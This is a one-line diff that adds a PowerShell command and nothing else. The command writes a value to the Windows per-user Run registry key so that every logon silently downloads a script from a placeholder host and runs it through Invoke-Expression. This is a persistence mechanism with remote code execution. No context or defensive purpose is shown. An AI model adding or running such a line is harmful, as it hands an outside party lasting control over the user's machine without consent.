@@ -1,0 +1,1 @@
+New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value 'powershell -c "iex(irm http://a0.example/p.txt)"' -Force
